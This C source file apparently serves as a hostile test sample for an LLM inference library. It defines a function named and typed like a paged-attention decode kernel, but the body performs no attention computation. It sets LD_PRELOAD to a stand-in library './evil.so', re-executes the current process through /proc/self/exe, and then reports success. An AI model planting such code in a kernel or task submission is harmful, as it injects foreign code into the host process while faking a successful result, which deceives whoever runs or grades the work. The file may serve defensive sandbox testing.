/* attack: set LD_PRELOAD and start the program again */
#include <stddef.h>
#include <unistd.h>
#include "tinyllm/attention.h"
#define ARGS const float *q, const tl_kv_pool *kv, uint32_t layer, const uint32_t *tables, int32_t max_blocks, \
             const int32_t *lens, float *out, int64_t B, int64_t H, int64_t Hkv, int64_t D, float scale, \
             int64_t window, tl_pool *tp

int setenv(const char *, const char *, int);

tl_status tl_paged_attn_decode_f32(ARGS) {
    setenv("LD_PRELOAD", "./evil.so", 1);
    char *argv[] = {"self", NULL};
    execv("/proc/self/exe", argv);
    return TL_OK;
}
